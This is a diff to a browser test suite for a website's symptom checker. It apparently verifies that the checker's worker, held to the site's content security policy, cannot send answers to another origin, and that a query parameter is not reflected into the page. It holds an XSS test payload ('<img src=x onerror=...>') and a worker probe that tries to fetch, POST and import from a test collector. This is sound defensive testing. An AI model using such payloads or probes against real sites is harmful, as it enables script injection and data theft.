@@ -17,6 +17,7 @@ import functools
 import hashlib
 import http.server
 import io
+import json
 import re
 import threading
 import uuid
@@ -27,8 +28,9 @@ import pytest
 
 from build_scripts.content_security_policy import META_NAME, read_page, script_hash
 from build_scripts.serve import SiteHandler, serve_in_background
-from build_scripts.site_layout import CACHE_PREFIX
+from build_scripts.site_layout import CACHE_PREFIX, SNAPSHOT_CACHE
 from tests.browser.checker_form import ENGINE_TIMEOUT, enter_answers, see_result, wait_for_engine
+from tests.browser.test_checker_browser import wait_for_snapshot
 from tests.browser.test_offline_browser import RUNTIME_KEPT, wait_until
 from tests.browser.test_site_browser import search_for
 from tests.conftest import build_site, copy_of_the_project, free_port, watch_for_csp_violations
@@ -366,11 +368,16 @@ def test_the_engine_runs_with_the_site_policy_applied_to_its_worker(page, record
     policy, as a browser that applied it to the worker would, the checker works."""
     recording_site.policy_headers["/assets/javascripts/checker-worker.mjs"] = \
         site_policy(built_site)
-    page.goto(recording_site.url + "checker/")
-    wait_for_engine(page)
-    result = page.evaluate("() => window.checker.assess({hours_since_massage: 43, severity: 7})")
-    assert result["level"] == "doctor"
-    assert page.evaluate("() => window.checkerStartup.snapshot") is True
+    for visit in ("first, an ordinary start", "again, restored from the snapshot"):
+        page.goto(recording_site.url + "checker/")
+        wait_for_engine(page)
+        result = page.evaluate(
+            "() => window.checker.assess({hours_since_massage: 43, severity: 7})")
+        assert result["level"] == "doctor", visit
+        snapshot = page.evaluate("() => window.checkerStartup.snapshot")
+        assert snapshot is visit.startswith("again"), visit
+        if not snapshot:
+            assert wait_for_snapshot(page)["kept"] is True
 
 
 # A service worker that gives one worker script the site's policy as a header.
@@ -409,6 +416,58 @@ def test_a_service_worker_can_give_the_worker_a_policy(chromium, recording_site,
     assert collector.requests == []
 
 
+# Run inside a worker: try to send "answers" to another origin three ways, and say
+# what happened, with the violations the worker reported.
+PROBE_IN_WORKER = """async (origin) => {
+    const violations = [];
+    self.addEventListener("securitypolicyviolation", (event) =>
+        violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
+    const attempt = (action) => action().then(() => "done", () => "refused");
+    const outcome = {
+        fetch: await attempt(() => fetch(origin + "/engine-fetch?severity=9")),
+        post: await attempt(() => fetch(origin + "/engine-post",
+                                         {method: "POST", body: "severity=9"})),
+        import: await attempt(() => import(origin + "/engine-import.mjs")),
+    };
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return {...outcome, violations};
+}"""
+
+
+def engine_worker(page):
+    return next(worker for worker in page.workers if worker.url.endswith("/checker-worker.mjs"))
+
+
+def test_once_the_site_service_worker_controls_the_page_the_engine_is_held_to_the_policy(
+        chromium, recording_site, collector, csp_violations):
+    """The site's own service worker gives its worker scripts the site's policy as a
+    header. On a first visit it does not control the page yet, and the engine's
+    worker runs with no policy (the known limit above); on the next visit the same
+    worker is held to the policy, and the checker still answers."""
+    context = own_context(chromium, csp_violations)
+    page = context.new_page()
+    page.goto(recording_site.url + "checker/")
+    wait_for_engine(page)
+    first = engine_worker(page).evaluate(PROBE_IN_WORKER, collector.origin)
+    assert first["fetch"] == "done" and first["violations"] == []
+    page.wait_for_function("() => navigator.serviceWorker.controller !== null")
+    collector.requests.clear()
+
+    page.reload()
+    wait_for_engine(page)
+    result = page.evaluate("() => window.checker.assess({hours_since_massage: 43, severity: 7})")
+    assert result["level"] == "doctor"
+    again = engine_worker(page).evaluate(PROBE_IN_WORKER, collector.origin)
+    context.close()
+    assert [again[name] for name in ("fetch", "post", "import")] == ["refused"] * 3
+    assert sorted(again["violations"]) == sorted([
+        f"connect-src {collector.origin}/engine-fetch?severity=9",
+        f"connect-src {collector.origin}/engine-post",
+        f"script-src-elem {collector.origin}/engine-import.mjs"])
+    assert collector.requests == []
+    assert csp_violations == []
+
+
 # ---------------------------------------------------------------------------
 # After a full check: nothing kept, nothing sent
 
@@ -439,6 +498,25 @@ CACHED = """async () => {
 }"""
 
 
+# Which of the given texts the engine's snapshot holds, once gunzipped: the engine's
+# whole memory, so an answer the engine had seen would be in it as the page sent it.
+SNAPSHOT_HOLDS = """async ([name, texts]) => {
+    const cache = await caches.open(name);
+    const [request] = await cache.keys();
+    const kept = await cache.match(request);
+    const memory = await new Response(kept.body.pipeThrough(new DecompressionStream("gzip")))
+        .arrayBuffer();
+    const text = new TextDecoder("latin1").decode(memory);
+    return texts.filter((each) => text.includes(each));
+}"""
+
+
+def answer_fragments() -> list[str]:
+    """Return each answer as the page sends it to the engine (JSON, no spaces)."""
+    return [json.dumps({field: value}, separators=(",", ":"))[1:-1]
+            for field, value in ANSWERS.items()]
+
+
 def site_file(site: Path, url: str, root: str) -> Path:
     relative = url[len(root):]
     path = site / relative
@@ -456,8 +534,10 @@ def test_after_a_full_check_nothing_holds_an_answer_and_none_was_sent(page, reco
     result = see_result(page)
     assert result.get_attribute("data-level") == "doctor"
     headline = result.locator("#checker-headline").inner_text()
-    runtime = sorted(path.name for path in (built_site / "pyodide").iterdir())
+    engine = json.loads((built_site / "pyodide" / "engine.json").read_text())
+    runtime = [name for names in engine["files"].values() for name in names]
     wait_until(page, RUNTIME_KEPT, runtime)  # the service worker has kept what it keeps
+    assert wait_for_snapshot(page)["kept"] is True
 
     assert page.context.cookies() == []
     stored = page.evaluate(STORED)
@@ -471,8 +551,16 @@ def test_after_a_full_check_nothing_holds_an_answer_and_none_was_sent(page, reco
 
     cached = page.evaluate(CACHED)
     assert len(cached) > 30
+    snapshots = [url for cache, url, _ in cached if cache == SNAPSHOT_CACHE]
+    assert len(snapshots) == 1  # the engine's snapshot: made before any answer, so none in it
+    # A question's id is in it (the engine's own data), no answer is.
+    found = page.evaluate(SNAPSHOT_HOLDS, [SNAPSHOT_CACHE, ["saddle_numbness",
+                                                           *answer_fragments()]])
+    assert found == ["saddle_numbness"]
     for cache, url, digest in cached:
         assert cache.startswith(CACHE_PREFIX)
+        if cache == SNAPSHOT_CACHE:
+            continue
         assert "?" not in url and "#" not in url and url.startswith(recording_site.url), url
         file = site_file(built_site, url, recording_site.url)
         # Byte for byte the file the build wrote, before anyone answered anything.
@@ -489,7 +577,9 @@ def test_after_a_full_check_nothing_holds_an_answer_and_none_was_sent(page, reco
 FORM_STATE = """() => [...document.querySelectorAll("#checker-form input")]
     .map((input) => [input.name, input.value, input.checked])"""
 
-HOSTILE = "<img src=x onerror=alert(1)>"
+# The mark is what is looked for: the page's own scripts may say "onerror".
+MARK = "hostile-4242"
+HOSTILE = f"<img src=x onerror=alert('{MARK}')>"
 
 # Every attribute whose value carries the hostile parameter, as [tag, name, value].
 ATTRIBUTES_CARRYING = """(text) => [...document.querySelectorAll("*")].flatMap((element) =>
@@ -502,9 +592,9 @@ def assert_not_reflected(page) -> None:
     instant navigation writes the page's own address into its in-page links
     (href="<address>#section"), percent-encoded: that is the only place it may be."""
     assert page.locator("img[src='x']").count() == 0
-    assert "onerror" not in page.evaluate("document.documentElement.textContent")
+    assert MARK not in page.evaluate("document.documentElement.textContent")
     address = page.url.split("#", 1)[0]
-    for tag, name, value in page.evaluate(ATTRIBUTES_CARRYING, "onerror"):
+    for tag, name, value in page.evaluate(ATTRIBUTES_CARRYING, MARK):
         assert (tag, name) == ("A", "href") and value.startswith(address + "#"), (tag, name, value)
         assert "<" not in value and " " not in value, value
 
